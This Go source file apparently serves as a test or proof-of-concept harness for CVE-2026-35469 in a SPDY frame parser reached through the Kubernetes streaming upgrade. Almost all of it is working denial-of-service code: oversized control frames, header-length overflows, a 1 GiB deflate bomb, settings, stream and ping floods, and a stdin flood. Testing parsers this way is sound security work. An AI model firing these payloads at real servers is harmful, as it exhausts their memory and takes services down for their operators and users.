package main

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"time"

	"github.com/moby/spdystream/spdy"
)

// What a client can do to the parser of SPDY frames (CVE-2026-35469), each after a proper upgrade:
//
//	length    a control frame of 16 MiB of nothing
//	pairs     a header block that says it has 2^31 pairs
//	name      a header whose name says it is 2^31 long, and goes on for 64 MiB
//	bomb      a header of 1 GiB, in 1 MiB of deflate
//	settings  2^31 settings
//	streams   a hundred thousand streams
//	pings     pings without end, whose answers are never read
//	flood     a gigabyte of stdin for a command that reads none
//
// The server may close the connection, or stop reading; it must not keep what it is sent.
var hostileKinds = map[string]func(*attack) error{
	"length":   func(a *attack) error { return a.frame(1, bytes.NewReader(make([]byte, 1<<24-1)), 1<<24-1) },
	"pairs":    func(a *attack) error { return a.block([]uint32{1<<31 - 1}, 0) },
	"name":     func(a *attack) error { return a.block([]uint32{1, 1<<31 - 1}, 64<<20) },
	"bomb":     func(a *attack) error { return a.block([]uint32{1, 1}, 1<<30) },
	"settings": (*attack).settings,
	"streams":  (*attack).manyStreams,
	"pings":    (*attack).pings,
	"flood":    (*attack).flood,
}

// blockedAfter: what the server has not read by then it does not want.
const blockedAfter = 5 * time.Second

// attack counts what it can send.
type attack struct {
	net.Conn
	sent int64
}

func (a *attack) Write(p []byte) (int, error) {
	_ = a.SetWriteDeadline(time.Now().Add(blockedAfter))
	n, err := a.Conn.Write(p)
	a.sent += int64(n)
	return n, err
}

func hostile(kind, address string) error {
	do, there := hostileKinds[kind]
	if !there {
		return fmt.Errorf("no kind %q", kind)
	}
	parsed, err := parse(address)
	if err != nil {
		return err
	}
	connection, upgraded, err := upgrade(parsed, "v4.channel.k8s.io")
	if err != nil {
		return err
	}
	_ = connection.SetDeadline(time.Time{})
	ended := make(chan struct{})
	if kind != "pings" {
		go func() {
			_, _ = io.Copy(io.Discard, upgraded)
			close(ended)
		}()
	}
	a := &attack{Conn: connection}
	err = do(a)
	var timeout net.Error
	switch {
	case errors.As(err, &timeout) && timeout.Timeout():
		fmt.Println("blocked", a.sent)
	case err != nil:
		fmt.Println("closed", a.sent)
	default:
		select {
		case <-ended:
			fmt.Println("closed", a.sent)
		case <-time.After(blockedAfter):
			fmt.Println("open", a.sent)
		}
	}
	// An end would wait behind what was not read; a reset does not.
	_ = connection.(*net.TCPConn).SetLinger(0)
	return connection.Close()
}

// frame sends a control frame of this type whose payload says it is so long.
func (a *attack) frame(kind uint16, payload io.Reader, length uint32) error {
	header := binary.BigEndian.AppendUint16([]byte{0x80, 3}, kind)
	header = binary.BigEndian.AppendUint32(header, length)
	if _, err := a.Write(header); err != nil {
		return err
	}
	_, err := io.Copy(struct{ io.Writer }{a}, payload)
	return err
}

// block sends a SYN_STREAM whose header block has these numbers first and then so many zeros. With two numbers the second
// is the name's length; a name of one byte gets a value with the length of the zeros.
func (a *attack) block(numbers []uint32, zeros int) error {
	var payload bytes.Buffer
	payload.Write([]byte{0, 0, 0, 1, 0, 0, 0, 0, 0, 0})
	deflate := zlib.NewWriter(&payload)
	for _, number := range numbers {
		_ = binary.Write(deflate, binary.BigEndian, number)
	}
	if len(numbers) == 2 && numbers[1] == 1 {
		_, _ = deflate.Write([]byte{'a'})
		_ = binary.Write(deflate, binary.BigEndian, uint32(zeros))
	}
	chunk := make([]byte, 1<<20)
	for ; zeros > 0; zeros -= len(chunk) {
		_, _ = deflate.Write(chunk[:min(zeros, len(chunk))])
	}
	_ = deflate.Flush()
	return a.frame(1, &payload, uint32(payload.Len()))
}

func (a *attack) settings() error {
	payload := make([]byte, 1<<24-1)
	binary.BigEndian.PutUint32(payload, 1<<31-1)
	return a.frame(4, bytes.NewReader(payload), uint32(len(payload)))
}

func (a *attack) manyStreams() error {
	framer, err := spdy.NewFramer(a, a)
	if err != nil {
		return err
	}
	for id := spdy.StreamId(1); id < 200_000; id += 2 {
		frame := &spdy.SynStreamFrame{StreamId: id, Headers: http.Header{"Streamtype": {"stdout"}}}
		if err := framer.WriteFrame(frame); err != nil {
			return err
		}
	}
	return nil
}

func (a *attack) pings() error {
	// Many in one write, so that the client is no slower than the server.
	one := []byte{0x80, 3, 0, 6, 0, 0, 0, 4, 0, 0, 0, 1}
	many := bytes.Repeat(one, 100_000)
	for range 500 {
		if _, err := a.Write(many); err != nil {
			return err
		}
	}
	return nil
}

func (a *attack) flood() error {
	framer, err := spdy.NewFramer(a, a)
	if err != nil {
		return err
	}
	for number, kind := range []string{"error", "stdin", "stdout", "stderr"} {
		frame := &spdy.SynStreamFrame{StreamId: spdy.StreamId(2*number + 1), Headers: http.Header{"Streamtype": {kind}}}
		if err := framer.WriteFrame(frame); err != nil {
			return err
		}
	}
	// Stream 3 is stdin.
	chunk := append([]byte{0, 0, 0, 3, 0, 1, 0, 0}, make([]byte, 1<<16)...)
	for range 1 << 14 {
		if _, err := a.Write(chunk); err != nil {
			return err
		}
	}
	return nil
}
